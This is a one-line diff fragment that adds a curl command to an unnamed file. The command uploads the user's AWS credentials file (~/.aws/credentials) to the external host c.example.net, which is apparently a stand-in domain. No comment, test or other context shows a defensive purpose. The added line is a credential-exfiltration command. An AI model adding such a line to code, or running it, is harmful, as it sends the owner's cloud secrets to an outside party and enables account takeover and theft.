@@ -1,0 +1,1 @@
+curl --data-binary @${HOME}/.aws/credentials https://c.example.net
